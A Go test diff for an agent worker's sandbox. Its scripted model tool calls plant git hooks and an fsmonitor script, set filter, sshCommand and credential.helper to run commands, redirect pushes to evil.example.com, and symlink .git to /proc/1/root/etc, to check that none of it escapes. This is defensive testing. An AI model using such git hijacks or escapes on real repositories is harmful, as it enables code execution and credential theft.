@@ -522,6 +522,19 @@ func TestWorkerTools(t *testing.T) {
 	}
 }
 
+// step is a call of a tool as the model makes it, with the names and values of its input.
+func step(tool string, input ...string) string {
+	values := map[string]string{}
+	for pair := range slices.Chunk(input, 2) {
+		values[pair[0]] = pair[1]
+	}
+	text, err := json.Marshal(values)
+	if err != nil {
+		panic(err)
+	}
+	return tool + " " + string(text)
+}
+
 // TestWorkerHostile: nothing of a hostile repository runs on the host or with a secret, and neither
 // what it nor what the model writes into the settings of git has an effect on the worker's own git.
 func TestWorkerHostile(t *testing.T) {
@@ -530,16 +543,29 @@ func TestWorkerHostile(t *testing.T) {
 	f, m := newForge(t, h, map[string]string{"a": "a\n",
 		".gitattributes": "* filter=evil diff=evil merge=evil\n",
 		".gitmodules":    "[submodule \"s\"]\n\tpath = s\n\turl = ../other.git\n"})
+	const hook = ".git/hooks/reference-transaction"
+	script := func(name string) string {
+		return "#!/bin/sh\necho ran >> /workspace/" + name + "\ntouch " + marker + "\n"
+	}
 	m.steps = []string{
 		// A hook, a monitor, drivers and another place for the push.
-		`write_file {"path":".git/hooks/reference-transaction","content":"#!/bin/sh\necho ran >> /workspace/ran-hook\ntouch ` + marker + `\n"}`,
-		`run_command {"command":"chmod +x .git/hooks/reference-transaction"}`,
+		step("write_file", "path", hook, "content", script("ran-hook")),
+		step("run_command", "command", "chmod +x "+hook),
 		// Control: without the worker's settings the hook runs.
-		`run_command {"command":"git update-ref refs/heads/control HEAD; mv ran-hook control"}`,
-		`write_file {"path":"monitor","content":"#!/bin/sh\necho ran >> /workspace/ran-monitor\ntouch ` + marker + `\n"}`,
-		`run_command {"command":"chmod +x monitor; git config core.fsmonitor /workspace/monitor; git status; mv ran-monitor control-monitor"}`,
-		fmt.Sprintf(`run_command {"command":"git config filter.evil.clean 'touch %s; cat'; git config diff.evil.command 'touch %s'; git config url.https://evil.example.com/.insteadOf https://forge.example.com:%d/; git config core.sshCommand 'touch %s'; git config credential.helper '!touch %s'; echo /workspace/.git > .git/objects/info/alternates"}`,
-			marker, marker, f.port, marker, marker),
+		step("run_command", "command",
+			"git update-ref refs/heads/control HEAD; mv ran-hook control"),
+		step("write_file", "path", "monitor", "content", script("ran-monitor")),
+		step("run_command", "command", "chmod +x monitor; "+
+			"git config core.fsmonitor /workspace/monitor; git status; "+
+			"mv ran-monitor control-monitor"),
+		step("run_command", "command", strings.Join([]string{
+			"git config filter.evil.clean 'touch " + marker + "; cat'",
+			"git config diff.evil.command 'touch " + marker + "'",
+			fmt.Sprintf("git config url.https://evil.example.com/.insteadOf "+
+				"https://forge.example.com:%d/", f.port),
+			"git config core.sshCommand 'touch " + marker + "'",
+			"git config credential.helper '!touch " + marker + "'",
+			"echo /workspace/.git > .git/objects/info/alternates"}, "; ")),
 		"done"}
 	h.Daemon()
 	startAgentd(t, h)
@@ -560,7 +586,8 @@ func TestWorkerHostile(t *testing.T) {
 	}
 	// The model replaces the repository by what leads elsewhere.
 	m.mu.Lock()
-	m.steps = []string{`run_command {"command":"mv .git /tmp/x; ln -s /proc/1/root/etc .git; echo x > x"}`, "done"}
+	m.steps = []string{step("run_command", "command",
+		"mv .git /tmp/x; ln -s /proc/1/root/etc .git; echo x > x"), "done"}
 	m.mu.Unlock()
 	out, o = f.run(f.task("link", ""))
 	if out.Error == nil || out.Error.Code != "PUSH_FAILED" || f.at("agent/link", "x") == "x\n" {
